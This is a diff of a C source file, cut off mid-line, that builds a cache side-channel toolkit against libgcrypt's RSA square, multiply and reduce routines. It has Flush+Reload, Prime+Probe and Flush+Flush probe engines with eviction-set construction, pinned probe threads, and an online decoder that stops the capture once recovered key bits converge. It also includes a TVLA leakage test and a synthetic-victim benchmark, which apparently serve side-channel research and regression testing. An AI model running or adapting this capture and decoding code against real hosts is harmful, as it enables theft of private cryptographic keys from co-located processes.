@@ -1,140 +1,1333 @@
+#define _GNU_SOURCE
 #include <dlfcn.h>
+#include <errno.h>
 #include <fcntl.h>
+#include <getopt.h>
+#include <math.h>
+#include <pthread.h>
+#include <sched.h>
 #include <signal.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mman.h>
+#include <sys/stat.h>
 #include <time.h>
 #include <unistd.h>
 
+#include "analysis.h"
+#include "evset.h"
+#include "harness.h"
+#include "perfcount.h"
+#include "probe.h"
+#include "realtime.h"
+#include "trace.h"
+#include "trace_index.h"
+#include "tvla.h"
+
 #define CACHE_LINE_SIZE 64
-#define TIME_SLOT_CYCLES 2500
-#define THRESHOLD 165
+#define TIME_SLOT_CYCLES 2500 // default, see --slot-cycles
 #define MAX_SLOTS 50000
 #define CALIBRATION_SAMPLES 100000
+#define TVLA_WINDOW_SLOTS 512 // slots captured after each operation start
 
 #define SQR_OFFSET 0x0000000000051470 // _gcry_mpih_sqr_n_basecase
 #define MUL_OFFSET 0x0000000000051a70 // _gcry_mpih_mul
 #define RED_OFFSET 0x0000000000050450 // _gcry_mpih_divrem
 
+#define LOAD_STATUS_NAME "load" // status page published by loadgen
+#define MAX_VICTIMS 16         // --victim targets captured by one thread
+
 typedef struct {
   void *address;
   char name[32];
-  uint64_t timing_history[MAX_SLOTS];
+  uint64_t offset; // offset in the target file
   int slot_count;
+  evset_t evset; // Prime+Probe eviction set for the line
+  uint64_t flush_threshold; // Flush+Flush threshold for the line
+  int flush_slow_hit;       // cached lines flush slower than uncached ones
 } monitored_function_t;
 
 volatile int running = 1;
 
+// Probe timer and hit threshold in that timer's units
+static probe_timer_t timer = PROBE_TIMER_RDTSC;
+static int threshold = PROBE_RELOAD_THRESHOLD;
+
+// Capture engine and slot length
+static int engine = TRACE_ENGINE_FLUSH_RELOAD;
+static uint64_t slot_cycles = TIME_SLOT_CYCLES;
+static int compress_traces; // RLE trace storage
+static long idle_floor;     // RLE idle floor, 0 keeps every record exact
+
 void signal_handler(int sig) { running = 0; }
 
-// Improved probe function with proper Flush+Reload
+// Probe start relative to the slot's deadline, per monitored line
+typedef struct {
+  uint64_t count;
+  double sum;
+  double sumsq;
+  uint64_t max;
+} skew_stats_t;
+
+static inline void skew_note(skew_stats_t *st, uint64_t skew) {
+  st->count++;
+  st->sum += skew;
+  st->sumsq += (double)skew * skew;
+  if (skew > st->max)
+    st->max = skew;
+}
+
+// Slot clock shared by the per-line probe threads. The leader (the main
+// capture loop) keeps the slot grid and publishes each slot it starts; probe
+// threads poll `slot` and stamp their probes against t0 + k * cycles. Every
+// field that one thread writes and others read sits on its own cache line.
+// All of them go through __atomic: t0 and cycles are stored before the
+// first slot is released, and read after a slot is acquired.
+typedef struct {
+  uint64_t t0 __attribute__((aligned(64)));
+  uint64_t cycles;
+  uint64_t slot __attribute__((aligned(64))); // slots started
+  int running __attribute__((aligned(64)));
+} slot_clock_t;
+
+static slot_clock_t slot_clock;
+
+#define MAX_LINE_THREADS 3 // one per monitored line at most
+
+// Per-slot state of a probe thread. A slot the thread skipped while behind
+// stays 0 and is flagged missed when the results are merged, rather than
+// passing its saturated latencies off as a measured all-miss slot.
+#define LINE_SLOT_PROBED 0x1
+#define LINE_SLOT_OVERRUN 0x2 // probes ended past the slot
+
+// A pinned thread probing a subset of the monitored lines. Results go to
+// per-thread arrays, merged into the trace after the capture, so threads
+// never write the same cache line.
+typedef struct {
+  pthread_t tid;
+  int cpu;
+  int num_lines;
+  int lines[3];
+  monitored_function_t *funcs[3];
+  uint16_t *latency[3]; // per slot
+  uint8_t *state;       // per slot: LINE_SLOT_*
+  size_t max_slots;
+  skew_stats_t skew[3];
+  uint64_t busy;    // cycles spent probing
+  uint64_t sampled; // slots probed
+} __attribute__((aligned(64))) line_thread_t;
+
+// Flush+Reload one line with the selected probe engine timer
 static inline int probe(void *addr, uint64_t *time_measured) {
-  volatile uint64_t time;
-
-  asm volatile("mfence\n"
-               "lfence\n"
-               "rdtsc\n"
-               "lfence\n"
-               "movl %%eax, %%esi\n"
-               "movl (%1), %%eax\n"
-               "lfence\n"
-               "rdtsc\n"
-               "subl %%esi, %%eax\n"
-               "clflush 0(%1)\n"
-               : "=a"(time)
-               : "c"(addr)
-               : "%esi", "%edx");
-
-  *time_measured = time;
-  return time < THRESHOLD;
-}
-
-// Get the cycle counter
-static inline uint64_t rdtsc() {
-  unsigned int lo, hi;
-  asm volatile("rdtsc" : "=a"(lo), "=d"(hi));
-  return ((uint64_t)hi << 32) | lo;
-}
-
-void *get_library_base_address() {
-  FILE *maps = fopen("/proc/self/maps", "r");
-  if (!maps)
-    return NULL;
-
-  char line[1024];
-  void *base_addr = NULL;
-
-  while (fgets(line, sizeof(line), maps)) {
-    // Look for your specific libgcrypt version
-    if (strstr(line, "libgcrypt.so")) {
-      unsigned long addr;
-      if (sscanf(line, "%lx-", &addr) == 1) {
-        base_addr = (void *)addr;
-        break;
-      }
+  *time_measured = probe_reload(timer, addr);
+  return *time_measured < threshold;
+}
+
+// Probe one monitored line with the selected engine. Prime+Probe sees the
+// victim's access as a slow walk over the line's eviction set, Flush+Flush
+// as a flush whose time falls on the cached side of the line's threshold.
+static inline int probe_func(monitored_function_t *f, uint64_t *time_measured) {
+  switch (engine) {
+  case TRACE_ENGINE_PRIME_PROBE:
+    *time_measured = evset_probe(timer, &f->evset);
+    return *time_measured > f->evset.threshold;
+  case TRACE_ENGINE_FLUSH_FLUSH:
+    *time_measured = probe_flush_time(timer, f->address);
+    return f->flush_slow_hit ? *time_measured > f->flush_threshold
+                             : *time_measured < f->flush_threshold;
+  default:
+    return probe(f->address, time_measured);
+  }
+}
+
+// Trace record value for a probe time, hit when below the header threshold
+static inline uint16_t record_latency(const monitored_function_t *f,
+                                      uint64_t time) {
+  switch (engine) {
+  case TRACE_ENGINE_PRIME_PROBE:
+    return trace_margin_above(time, f->evset.threshold);
+  case TRACE_ENGINE_FLUSH_FLUSH:
+    return f->flush_slow_hit ? trace_margin_above(time, f->flush_threshold)
+                             : trace_margin_below(time, f->flush_threshold);
+  default:
+    return trace_latency(time);
+  }
+}
+
+// Calibrate a timer other than rdtsc and convert PROBE_RELOAD_THRESHOLD, which
+// is tuned in TSC cycles, into its units. If the converted value does not
+// separate the measured hit and miss latencies, the midpoint between them is
+// used.
+void calibrate_timer(void) {
+  probe_calibration_t tsc, cal;
+
+  probe_timer_calibrate(PROBE_TIMER_RDTSC, &tsc);
+  probe_timer_calibrate(timer, &cal);
+
+  printf("\nTimer calibration (%s vs rdtsc):\n", probe_timer_name(timer));
+  printf("  rate:       %.4f ticks per TSC cycle\n", cal.ticks_per_cycle);
+  printf("  resolution: %.1f cycles per step (rdtsc: %.1f)\n",
+         cal.cycles_per_step, tsc.cycles_per_step);
+  printf("  reload:     hit %lu / miss %lu ticks (rdtsc: %lu / %lu cycles)\n",
+         cal.hit_median, cal.miss_median, tsc.hit_median, tsc.miss_median);
+
+  threshold = (int)(PROBE_RELOAD_THRESHOLD * cal.ticks_per_cycle + 0.5);
+  if (cal.miss_median <= cal.hit_median + 1) {
+    fprintf(stderr, "Warning: %s timer cannot tell hits from misses here; "
+                    "pin its thread to a spare core with --counter-cpu\n",
+            probe_timer_name(timer));
+  } else if ((uint64_t)threshold <= cal.hit_median ||
+             (uint64_t)threshold > cal.miss_median) {
+    int midpoint = (cal.hit_median + cal.miss_median + 1) / 2;
+    printf("  converted threshold %d does not separate hits from misses, "
+           "using %d\n",
+           threshold, midpoint);
+    threshold = midpoint;
+  }
+}
+
+// Build and calibrate an eviction set for every monitored line in the
+// attacker's own memory. The L1D needs one page per way and line; for the
+// LLC the pool is twice the cache, so roughly 2 * ways candidates at the
+// line's page offset are congruent with it before reduction.
+int setup_prime_probe(monitored_function_t *funcs, int num_funcs, int level,
+                      evset_pool_t *pool) {
+  cache_info_t cache;
+  uint64_t tsc_hz = harness_tsc_hz();
+  uint64_t total = 0;
+
+  if (cache_info(level, &cache) < 0) {
+    fprintf(stderr, "Cannot read the cache geometry from sysfs\n");
+    return -1;
+  }
+  size_t bytes = level == CACHE_L1D ? (size_t)num_funcs * cache.ways * 4096
+                                    : 2 * cache.size;
+  printf("\nPrime+Probe on the %s: %zu KB, %u ways, %u sets; %zu MB pool\n",
+         level == CACHE_L1D ? "L1D" : "LLC", cache.size >> 10, cache.ways,
+         cache.sets, bytes >> 20);
+  if (evset_pool_alloc(pool, bytes, 0) < 0)
+    return -1;
+
+  uint64_t miss_threshold = evset_miss_threshold();
+
+  for (int i = 0; i < num_funcs; i++) {
+    evset_t *set = &funcs[i].evset;
+    int ret = level == CACHE_L1D
+                  ? evset_build_l1d(set, pool, funcs[i].address, &cache)
+                  : evset_build_llc(set, pool, funcs[i].address, &cache,
+                                    miss_threshold);
+    if (ret < 0) {
+      fprintf(stderr, "Failed to build an eviction set for %s%s\n",
+              funcs[i].name,
+              level == CACHE_LLC ? " (non-inclusive or noisy LLC? try "
+                                   "--level l1)"
+                                 : "");
+      return -1;
+    }
+    if (evset_calibrate(set, timer, funcs[i].address) < 0)
+      fprintf(stderr, "Warning: the %s eviction set does not notice target "
+                      "accesses\n",
+              funcs[i].name);
+    total += set->build_cycles;
+    printf("  %-8s %2u lines in %8.2f ms (%u tests), probe idle %lu / "
+           "active %lu, threshold %lu\n",
+           funcs[i].name, set->count, set->build_cycles * 1e3 / tsc_hz,
+           set->tests, set->idle_median, set->active_median, set->threshold);
+  }
+  printf("  construction: %.2f ms\n", total * 1e3 / tsc_hz);
+
+  // Lines in the same set share one eviction set's worth of ways and
+  // report each other's accesses
+  for (int i = 0; i < num_funcs; i++) {
+    for (int j = i + 1; j < num_funcs; j++) {
+      uintptr_t a = (uintptr_t)funcs[i].address / cache.line;
+      uintptr_t b = (uintptr_t)funcs[j].address / cache.line;
+      if (level == CACHE_L1D && a % cache.sets == b % cache.sets)
+        printf("  warning: %s and %s map to the same L1D set\n",
+               funcs[i].name, funcs[j].name);
     }
   }
-  fclose(maps);
-  return base_addr;
+  return 0;
 }
 
-// Analyze captured data to extract bit patterns
-void analyze_results(monitored_function_t *funcs, int num_funcs,
-                     int total_slots) {
-  printf("\n=== ANALYSIS RESULTS ===\n");
-  printf("Total time slots captured: %d\n", total_slots);
+static void *line_thread_main(void *arg) {
+  line_thread_t *lt = arg;
+  uint64_t seen = 0;
 
-  // Simple pattern detection: S-R-M-R = 1 bit, S-R = 0 bit
-  printf("\nDetected bit sequence:\n");
+  if (lt->cpu >= 0) {
+    cpu_set_t set;
+    CPU_ZERO(&set);
+    CPU_SET(lt->cpu, &set);
+    if (pthread_setaffinity_np(pthread_self(), sizeof(set), &set) != 0)
+      fprintf(stderr, "Warning: cannot pin probe thread to core %d\n",
+              lt->cpu);
+  }
 
-  int i = 0;
-  int bit_count = 0;
-  char bit_sequence[1024] = {0};
+  while (__atomic_load_n(&slot_clock.running, __ATOMIC_RELAXED)) {
+    uint64_t started = __atomic_load_n(&slot_clock.slot, __ATOMIC_ACQUIRE);
+    if (started == seen)
+      continue;
+    // Join the newest slot; slots skipped while behind stay unsampled
+    seen = started;
+    uint64_t slot = started - 1;
+    if (slot >= lt->max_slots)
+      continue;
 
-  while (i < total_slots - 4) {
-    int sqr_hit = funcs[0].timing_history[i] < THRESHOLD;
-    int mul_hit = funcs[1].timing_history[i + 2] < THRESHOLD;
+    uint64_t cycles = __atomic_load_n(&slot_clock.cycles, __ATOMIC_RELAXED);
+    uint64_t deadline =
+        __atomic_load_n(&slot_clock.t0, __ATOMIC_RELAXED) + slot * cycles;
+    uint64_t begin = probe_rdtsc();
+    for (int k = 0; k < lt->num_lines; k++) {
+      uint64_t time;
+      skew_note(&lt->skew[k], probe_rdtsc() - deadline);
+      probe_func(lt->funcs[k], &time);
+      lt->latency[k][slot] = record_latency(lt->funcs[k], time);
+    }
+    uint64_t end = probe_rdtsc();
+    lt->busy += end - begin;
+    lt->sampled++;
+    lt->state[slot] =
+        LINE_SLOT_PROBED | (end > deadline + cycles ? LINE_SLOT_OVERRUN : 0);
+  }
+  return NULL;
+}
 
-    if (sqr_hit) {
-      // Check if followed by multiply (indicates bit=1)
-      if (i + 2 < total_slots && mul_hit) {
-        bit_sequence[bit_count++] = '1';
-        i += 4; // Skip S-R-M-R sequence
-      } else {
-        bit_sequence[bit_count++] = '0';
-        i += 2; // Skip S-R sequence
+// Start one probe thread per CPU in cpus, monitored lines dealt round-robin
+int start_line_threads(line_thread_t *threads, const int *cpus, int n,
+                       monitored_function_t *funcs, int num_funcs,
+                       size_t max_slots) {
+  __atomic_store_n(&slot_clock.cycles, slot_cycles, __ATOMIC_RELAXED);
+  __atomic_store_n(&slot_clock.slot, 0, __ATOMIC_RELAXED);
+  __atomic_store_n(&slot_clock.running, 1, __ATOMIC_RELEASE);
+
+  for (int t = 0; t < n; t++) {
+    line_thread_t *lt = &threads[t];
+    memset(lt, 0, sizeof(*lt));
+    lt->cpu = cpus[t];
+    lt->max_slots = max_slots;
+    lt->state = calloc(max_slots, 1);
+    if (!lt->state)
+      return -1;
+    for (int i = t; i < num_funcs; i += n) {
+      int k = lt->num_lines++;
+      lt->lines[k] = i;
+      lt->funcs[k] = &funcs[i];
+      lt->latency[k] = malloc(max_slots * sizeof(uint16_t));
+      if (!lt->latency[k])
+        return -1;
+      memset(lt->latency[k], 0xff, max_slots * sizeof(uint16_t));
+    }
+  }
+  for (int t = 0; t < n; t++) {
+    if (pthread_create(&threads[t].tid, NULL, line_thread_main,
+                       &threads[t]) != 0) {
+      fprintf(stderr, "Failed to start probe thread %d\n", t);
+      __atomic_store_n(&slot_clock.running, 0, __ATOMIC_RELEASE);
+      for (int k = 0; k < t; k++)
+        pthread_join(threads[k].tid, NULL);
+      return -1;
+    }
+  }
+  return 0;
+}
+
+// Stop the probe threads and merge their results into the first n slots of
+// the trace. A slot that any thread skipped is flagged missed and counted in
+// *missed, like a slot the leader fell behind on. Returns the number of
+// slots that overran in any thread.
+int stop_line_threads(line_thread_t *threads, int n, trace_record_t *trace,
+                      int slots, skew_stats_t *skew, int *missed) {
+  int overruns = 0;
+
+  __atomic_store_n(&slot_clock.running, 0, __ATOMIC_RELEASE);
+  for (int t = 0; t < n; t++)
+    pthread_join(threads[t].tid, NULL);
+
+  for (int s = 0; s < slots; s++) {
+    if (trace[s].flags & TRACE_SLOT_MISSED)
+      continue;
+    uint8_t all = LINE_SLOT_PROBED, any = 0;
+    for (int t = 0; t < n; t++) {
+      all &= threads[t].state[s];
+      any |= threads[t].state[s];
+    }
+    if (!(all & LINE_SLOT_PROBED)) {
+      for (int i = 0; i < 3; i++)
+        trace[s].latency[i] = 0xffff;
+      trace[s].flags = TRACE_SLOT_MISSED;
+      (*missed)++;
+      continue;
+    }
+    for (int t = 0; t < n; t++) {
+      for (int k = 0; k < threads[t].num_lines; k++)
+        trace[s].latency[threads[t].lines[k]] = threads[t].latency[k][s];
+    }
+    if (any & LINE_SLOT_OVERRUN) {
+      trace[s].flags |= TRACE_SLOT_OVERRUN;
+      overruns++;
+    }
+  }
+
+  for (int t = 0; t < n; t++) {
+    for (int k = 0; k < threads[t].num_lines; k++) {
+      skew[threads[t].lines[k]] = threads[t].skew[k];
+      free(threads[t].latency[k]);
+    }
+    free(threads[t].state);
+  }
+  return overruns;
+}
+
+// Online decoder. The capture loop publishes how many slots it has finished;
+// the decoder thread feeds them to rsa_online_feed behind it and, with a
+// convergence target, ends the capture once enough bits are stable.
+#define ONLINE_POLL_US 1000
+#define ONLINE_REPORT_SEGMENTS 16
+#define ONLINE_MIN_BITS 64 // shorter estimates never count as converged
+
+typedef struct {
+  pthread_t tid;
+  const trace_record_t *trace;
+  int threshold;
+  double converge; // stable fraction that ends the capture, 0 to never stop
+  int quiet;
+  rsa_online_t state;
+  rsa_convergence_t conv;
+  size_t converged_slots; // slots captured when the target was met
+} online_decoder_t;
+
+static size_t published_slots __attribute__((aligned(64)));
+static int capture_done __attribute__((aligned(64)));
+
+static void *online_main(void *arg) {
+  online_decoder_t *od = arg;
+  uint64_t reported = 0;
+
+  for (;;) {
+    // Read the flag first, so the pass after it sees every slot
+    int done = __atomic_load_n(&capture_done, __ATOMIC_ACQUIRE);
+    size_t n = __atomic_load_n(&published_slots, __ATOMIC_ACQUIRE);
+
+    rsa_online_feed(&od->state, od->trace, n, od->threshold);
+    rsa_online_convergence(&od->state, &od->conv);
+    double stable = od->conv.len ? (double)od->conv.stable / od->conv.len : 0;
+
+    if (!od->quiet &&
+        od->state.segments >= reported + ONLINE_REPORT_SEGMENTS) {
+      reported = od->state.segments;
+      printf("Online: %lu operations, %zu bits, %zu stable (%.1f%%), "
+             "est. error %.2f%%\n",
+             od->state.segments, od->conv.len, od->conv.stable, 100 * stable,
+             100 * od->conv.est_error);
+    }
+    if (od->converge > 0 && !od->converged_slots && od->conv.len >= ONLINE_MIN_BITS &&
+        stable >= od->converge) {
+      od->converged_slots = n;
+      running = 0;
+    }
+    if (done)
+      break;
+    usleep(ONLINE_POLL_US);
+  }
+  return NULL;
+}
+
+// Start the decoder under SCHED_OTHER on cpu, or on any core but the one the
+// capture loop is pinned to. Inheriting the loop's scheduling would starve
+// it behind the spinning loop under SCHED_FIFO, and otherwise have it
+// preempt the capture core on every poll.
+static int start_online_decoder(online_decoder_t *od, int cpu) {
+  pthread_attr_t attr;
+  struct sched_param param = {0};
+  cpu_set_t set;
+
+  pthread_attr_init(&attr);
+  pthread_attr_setinheritsched(&attr, PTHREAD_EXPLICIT_SCHED);
+  pthread_attr_setschedpolicy(&attr, SCHED_OTHER);
+  pthread_attr_setschedparam(&attr, &param);
+
+  CPU_ZERO(&set);
+  if (cpu >= 0) {
+    CPU_SET(cpu, &set);
+  } else {
+    int capture_cpu = rt_pinned_cpu();
+    long cpus = sysconf(_SC_NPROCESSORS_CONF);
+    for (long c = 0; c < cpus && c < CPU_SETSIZE; c++) {
+      if (c != capture_cpu)
+        CPU_SET(c, &set);
+    }
+  }
+  // A single-core machine leaves nowhere else to go
+  if (CPU_COUNT(&set) > 0)
+    pthread_attr_setaffinity_np(&attr, sizeof(set), &set);
+
+  int ret = pthread_create(&od->tid, &attr, online_main, od);
+  pthread_attr_destroy(&attr);
+  return ret;
+}
+
+// Calibrate a Flush+Flush threshold on every monitored line. Whether a
+// cached line flushes slower or faster than an uncached one depends on the
+// microarchitecture, so the direction is measured too.
+void setup_flush_flush(monitored_function_t *funcs, int num_funcs) {
+  printf("\nFlush+Flush calibration (%s timer):\n", probe_timer_name(timer));
+  for (int i = 0; i < num_funcs; i++) {
+    uint64_t cached, uncached;
+    probe_flush_calibrate(timer, funcs[i].address, &cached, &uncached);
+    funcs[i].flush_threshold = (cached + uncached) / 2;
+    funcs[i].flush_slow_hit = cached > uncached;
+    printf("  %-8s flush cached %lu / uncached %lu, threshold %lu (hits are "
+           "%s)\n",
+           funcs[i].name, cached, uncached, funcs[i].flush_threshold,
+           funcs[i].flush_slow_hit ? "slow" : "fast");
+    if (cached == uncached)
+      fprintf(stderr, "Warning: %s flush times do not separate\n",
+              funcs[i].name);
+  }
+}
+
+// Describe the co-located load currently published by loadgen
+void current_load_profile(char *profile, size_t len) {
+  harness_status_t *load = harness_status_find(LOAD_STATUS_NAME);
+  // A loadgen killed outright never marks its page finished; check that it
+  // is still running before trusting the page
+  int alive = load && (kill(load->pid, 0) == 0 || errno == EPERM);
+  if (alive && load->ready && !load->finished)
+    snprintf(profile, len, "%s", load->profile);
+  else
+    snprintf(profile, len, "idle");
+  harness_status_close(load);
+}
+
+// Point funcs at the square, multiply and reduce lines of a libgcrypt image
+void init_rsa_funcs(monitored_function_t *funcs, char *base) {
+  static const uint64_t offsets[3] = {SQR_OFFSET, MUL_OFFSET, RED_OFFSET};
+  static const char *names[3] = {"Square", "Multiply", "Reduce"};
+
+  for (int i = 0; i < 3; i++) {
+    funcs[i].address = base + offsets[i];
+    funcs[i].offset = offsets[i];
+    strcpy(funcs[i].name, names[i]);
+    funcs[i].slot_count = 0;
+  }
+}
+
+// Trace header for a capture of the three RSA lines with the current engine
+void init_trace_header(trace_header_t *header,
+                       const monitored_function_t *funcs) {
+  trace_header_init(header, 3);
+  header->engine = engine;
+  header->threshold =
+      engine == TRACE_ENGINE_FLUSH_RELOAD ? threshold : TRACE_MARGIN_ZERO;
+  header->slot_cycles = slot_cycles;
+  for (int i = 0; i < 3; i++) {
+    snprintf(header->line_names[i], TRACE_NAME_LEN, "%s", funcs[i].name);
+    header->line_offsets[i] = funcs[i].offset;
+  }
+  current_load_profile(header->load_profile, sizeof(header->load_profile));
+  if (compress_traces)
+    trace_header_set_rle(header, idle_floor);
+}
+
+// Index the operations of a trace just written, while its pages are still
+// cached, so analysis tools can seek without a first scan
+int write_trace_index(const char *trace_path) {
+  trace_index_t idx;
+  char index_path[4096];
+
+  if (trace_index_build(trace_path, &idx) < 0)
+    return -1;
+  trace_index_path(trace_path, index_path, sizeof(index_path));
+  int ret = trace_index_save(&idx, index_path);
+  if (ret == 0)
+    printf("Index written to %s (%lu operations)\n", index_path,
+           idx.header.count);
+  trace_index_free(&idx);
+  return ret;
+}
+
+// Fixed-vs-random leakage assessment. Each victim operation opens a window
+// of TVLA_WINDOW_SLOTS slots; the hit pattern of every window is folded into
+// streaming per-class moments, so any number of traces fits in memory.
+// Returns 2 if leakage was detected, for use as a regression gate.
+int run_tvla(monitored_function_t *funcs, int num_funcs,
+             harness_status_t *status, uint64_t max_traces) {
+  tvla_t tvla;
+  uint8_t *window;
+  uint64_t slot_start, slot_end;
+  uint64_t cur_seq = harness_op_seq(status);
+  uint64_t missed = 0;
+  int cls = 0, pos = -1;
+
+  if (tvla_init(&tvla, TVLA_WINDOW_SLOTS, num_funcs) < 0) {
+    fprintf(stderr, "Failed to allocate TVLA accumulators\n");
+    return 1;
+  }
+  window = calloc(TVLA_WINDOW_SLOTS, num_funcs);
+  if (!window) {
+    fprintf(stderr, "Failed to allocate TVLA window\n");
+    tvla_free(&tvla);
+    return 1;
+  }
+
+  printf("TVLA: %d-slot window per operation, target %lu traces per class\n",
+         TVLA_WINDOW_SLOTS, max_traces);
+
+  while (running &&
+         (tvla.traces[0] < max_traces || tvla.traces[1] < max_traces)) {
+    slot_start = probe_rdtsc();
+
+    // A new odd sequence number means an operation just started
+    uint64_t seq = harness_op_seq(status);
+    if (seq != cur_seq && (seq & 1)) {
+      if (pos >= 0)
+        missed++; // previous window was overtaken by the next operation
+      // Operations that started and ended between two polls: the odd
+      // numbers strictly between cur_seq and seq. An open window's own
+      // operation, odd cur_seq, is not among them.
+      missed += (seq - cur_seq - 1) / 2;
+      cls = status->op_class;
+      pos = 0;
+    }
+    cur_seq = seq;
+
+    for (int i = 0; i < num_funcs; i++) {
+      uint64_t time;
+      int hit = probe_func(&funcs[i], &time);
+      if (pos >= 0)
+        window[pos * num_funcs + i] = hit;
+    }
+
+    if (pos >= 0 && ++pos == TVLA_WINDOW_SLOTS) {
+      // Fold outside the timed part: the victim is between operations
+      tvla_add_trace(&tvla, cls, window);
+      pos = -1;
+
+      uint64_t total = tvla.traces[0] + tvla.traces[1];
+      if (total % 1000 == 0) {
+        printf("TVLA: %lu fixed / %lu random traces\n", tvla.traces[0],
+               tvla.traces[1]);
       }
+      continue;
+    }
+
+    do {
+      slot_end = probe_rdtsc();
+    } while ((slot_end - slot_start) < slot_cycles);
+  }
+
+  printf("\n=== TVLA RESULTS ===\n");
+  printf("Traces: %lu fixed, %lu random (%lu operations missed)\n",
+         tvla.traces[0], tvla.traces[1], missed);
+  printf("Threshold: |t| > %.1f\n", TVLA_THRESHOLD);
+
+  int leaks = 0;
+  for (int i = 0; i < num_funcs; i++) {
+    tvla_line_result_t res;
+    int leak = tvla_line_result(&tvla, i, &res);
+    printf("%-8s max |t| = %8.2f at slot %4d, %4d slots over threshold%s\n",
+           funcs[i].name, res.max_t, res.max_slot, res.leaky_slots,
+           leak ? " <- LEAK" : "");
+    leaks += leak;
+  }
+  printf("Verdict: %s\n", leaks ? "LEAKAGE DETECTED" : "no leakage detected");
+
+  free(window);
+  tvla_free(&tvla);
+  return leaks ? 2 : 0;
+}
+
+// Map the synthetic victim's target lines from the file backing them. The
+// mapping shares page cache pages with the victim, just like the library.
+int map_synth_targets(monitored_function_t *funcs, harness_status_t *status) {
+  int fd = open(status->target_path, O_RDONLY);
+  if (fd < 0) {
+    perror(status->target_path);
+    return -1;
+  }
+
+  uint64_t lo = status->target_offset[0] < status->target_offset[1]
+                    ? status->target_offset[0]
+                    : status->target_offset[1];
+  uint64_t hi = status->target_offset[0] ^ status->target_offset[1] ^ lo;
+  uint64_t map_offset = lo & ~0xfffULL;
+  size_t map_len = hi - map_offset + CACHE_LINE_SIZE;
+
+  char *base = mmap(NULL, map_len, PROT_READ, MAP_SHARED, fd, map_offset);
+  close(fd);
+  if (base == MAP_FAILED) {
+    perror("mmap");
+    return -1;
+  }
+
+  for (int i = 0; i < 2; i++) {
+    funcs[i].address = base + (status->target_offset[i] - map_offset);
+    snprintf(funcs[i].name, sizeof(funcs[i].name), "Line %d", i);
+    funcs[i].slot_count = 0;
+  }
+  return 0;
+}
+
+// Score the probe loop against the synthetic victim. Every bit window is
+// classified by which of the two target lines hit during it, and compared
+// with the ground-truth stream regenerated from the published seed.
+int run_synth(monitored_function_t *funcs, harness_status_t *status,
+              uint64_t max_bits) {
+  uint64_t t0 = status->bit_t0;
+  uint64_t period = status->bit_period;
+  uint64_t truth_state = status->bit_seed;
+  uint64_t cur_bit = 0, slots = 0;
+  uint64_t correct = 0, flipped = 0, erased = 0, ambiguous = 0;
+  uint64_t slot_start, slot_end, start;
+  int seen[2] = {0, 0};
+
+  printf("Synthetic victim: %.0f bits/s, %lu cycles per bit, %.1f slots per "
+         "bit\n",
+         (double)status->tsc_hz / period, period,
+         (double)period / slot_cycles);
+
+  // Join the stream at the next bit boundary
+  start = probe_rdtsc();
+  if (start > t0)
+    cur_bit = (start - t0) / period + 1;
+  for (uint64_t k = 0; k < cur_bit; k++)
+    harness_next_bit(&truth_state);
+  max_bits += cur_bit;
+  uint64_t first_bit = cur_bit;
+  while (probe_rdtsc() < t0 + cur_bit * period)
+    ;
+  start = probe_rdtsc();
+
+  while (running && cur_bit < max_bits) {
+    slot_start = probe_rdtsc();
+
+    int hit[2];
+    for (int i = 0; i < 2; i++) {
+      uint64_t time;
+      hit[i] = probe_func(&funcs[i], &time);
+    }
+
+    // Attribute hits to the bit window the probe completed in
+    uint64_t k = (probe_rdtsc() - t0) / period;
+    while (k > cur_bit && cur_bit < max_bits) {
+      int truth = harness_next_bit(&truth_state);
+      if (seen[0] && seen[1])
+        ambiguous++;
+      else if (!seen[0] && !seen[1])
+        erased++;
+      else if (seen[truth])
+        correct++;
+      else
+        flipped++;
+      seen[0] = seen[1] = 0;
+      cur_bit++;
+    }
+    seen[0] |= hit[0];
+    seen[1] |= hit[1];
+    slots++;
+
+    do {
+      slot_end = probe_rdtsc();
+    } while ((slot_end - slot_start) < slot_cycles);
+  }
+
+  double seconds = (double)(probe_rdtsc() - start) / status->tsc_hz;
+  uint64_t scored = cur_bit - first_bit;
+  if (scored == 0) {
+    printf("No bits scored\n");
+    return 1;
+  }
+
+  printf("\n=== SYNTHETIC VICTIM RESULTS ===\n");
+  printf("Slots: %lu in %.3f s (%.0f slots/s, %.1f ns per slot)\n", slots,
+         seconds, slots / seconds, seconds * 1e9 / slots);
+  printf("Bits scored: %lu\n", scored);
+  printf("  correct:   %lu (%.2f%%)\n", correct, 100.0 * correct / scored);
+  printf("  flipped:   %lu (%.2f%%)\n", flipped, 100.0 * flipped / scored);
+  printf("  erased:    %lu (%.2f%%)\n", erased, 100.0 * erased / scored);
+  printf("  ambiguous: %lu (%.2f%%)\n", ambiguous, 100.0 * ambiguous / scored);
+  printf("Bit error rate: %.4f\n",
+         (double)(flipped + erased + ambiguous) / scored);
+  printf("Correct bits/s: %.0f of %.0f offered\n", correct / seconds,
+         scored / seconds);
+  printf("Victim late bits: %lu\n", status->late_bits);
+  return 0;
+}
+
+// One victim as the slot loop sees it: its monitored lines, where its
+// records go, and the status page whose op_seq tags them (or NULL)
+typedef struct {
+  monitored_function_t *funcs;
+  trace_record_t *records;
+  harness_status_t *status;
+} capture_target_t;
+
+#define CAPTURE_VERBOSE 0x1      // print hits and progress
+#define CAPTURE_ONLINE 0x2       // publish finished slots to the decoder
+#define CAPTURE_LINE_THREADS 0x4 // start slots for the probe threads only
+
+// Counts and timing of one run of the slot loop
+typedef struct {
+  int slots; // captured, missed ones included
+  int overruns;
+  int missed;
+  uint64_t max_lateness;
+  uint64_t probe_cycles; // from slot start to the last probe, summed
+  uint64_t t0;
+  uint64_t last_tsc; // last slot start or end
+  rt_gaps_t gaps;
+  skew_stats_t skew[3]; // probe start skew per line, over all targets
+} capture_t;
+
+// The capture loop shared by single- and multi-victim captures. Slot k
+// starts at t0 + k * slot_cycles, so an overrun delays only the slots it
+// overlaps instead of shifting the rest of the trace against the victim.
+// Every slot probes the three lines of each target in turn.
+static void capture_slots(capture_t *cap, capture_target_t *targets,
+                          int num_targets, int max_slots, int flags) {
+  uint64_t slot_start, slot_end;
+  int slot = 0;
+
+  memset(cap, 0, sizeof(*cap));
+  cap->t0 = cap->last_tsc = probe_rdtsc();
+  if (flags & CAPTURE_LINE_THREADS)
+    __atomic_store_n(&slot_clock.t0, cap->t0, __ATOMIC_RELAXED);
+
+  while (running && slot < max_slots) {
+    if (flags & CAPTURE_ONLINE)
+      __atomic_store_n(&published_slots, slot, __ATOMIC_RELEASE);
+    uint64_t deadline = cap->t0 + (uint64_t)slot * slot_cycles;
+    // Gaps are only measured between reads of this wait. Each wait starts a
